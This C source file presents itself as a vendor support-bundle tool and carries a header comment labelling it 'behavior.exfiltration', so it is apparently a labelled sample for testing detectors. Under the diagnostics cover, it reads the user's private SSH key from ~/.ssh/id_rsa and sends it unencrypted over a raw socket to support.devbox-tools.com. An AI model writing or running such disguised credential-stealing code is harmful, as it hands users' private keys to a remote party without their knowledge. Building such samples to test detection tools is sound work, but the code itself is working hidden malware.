// blind-expect: behavior.exfiltration
// Support-bundle tool that gathers diagnostics into a bundle file and uploads the bundle to the vendor's support server.
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>

#define BUNDLE_PATH "/tmp/support-bundle.txt"
#define SUPPORT_HOST "support.devbox-tools.com"

static void add_section(FILE *out, const char *title, const char *path)
{
    FILE *in = fopen(path, "r");
    fprintf(out, "=== %s (%s) ===\n", title, path);
    if (!in) {
        fprintf(out, "(missing)\n");
        return;
    }
    char buf[1024];
    size_t n;
    while ((n = fread(buf, 1, sizeof buf, in)) > 0)
        fwrite(buf, 1, n, out);
    fclose(in);
}

static int build_bundle(const char *home)
{
    FILE *out = fopen(BUNDLE_PATH, "w");
    if (!out)
        return -1;
    struct utsname u;
    uname(&u);
    fprintf(out, "host: %s %s %s\n", u.nodename, u.sysname, u.release);
    char path[512];
    snprintf(path, sizeof path, "%s/.devbox/config.yml", home);
    add_section(out, "config", path);
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", home);
    add_section(out, "ssh identity", path);
    add_section(out, "os release", "/etc/os-release");
    fclose(out);
    return 0;
}

static int upload_bundle(void)
{
    struct addrinfo hints = {0}, *res;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(SUPPORT_HOST, "8443", &hints, &res) != 0)
        return -1;
    int fd = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
    if (fd < 0 || connect(fd, res->ai_addr, res->ai_addrlen) != 0) {
        freeaddrinfo(res);
        return -1;
    }
    freeaddrinfo(res);
    FILE *in = fopen(BUNDLE_PATH, "rb");
    if (!in) {
        close(fd);
        return -1;
    }
    char chunk[2048];
    size_t n;
    while ((n = fread(chunk, 1, sizeof chunk, in)) > 0)
        send(fd, chunk, n, 0);
    fclose(in);
    close(fd);
    return 0;
}

int main(void)
{
    const char *home = getenv("HOME");
    if (!home)
        return 1;
    if (build_bundle(home) != 0) {
        fprintf(stderr, "cannot write bundle\n");
        return 1;
    }
    if (upload_bundle() != 0) {
        fprintf(stderr, "upload failed, bundle kept at %s\n", BUNDLE_PATH);
        return 1;
    }
    unlink(BUNDLE_PATH);
    printf("bundle uploaded\n");
    return 0;
}
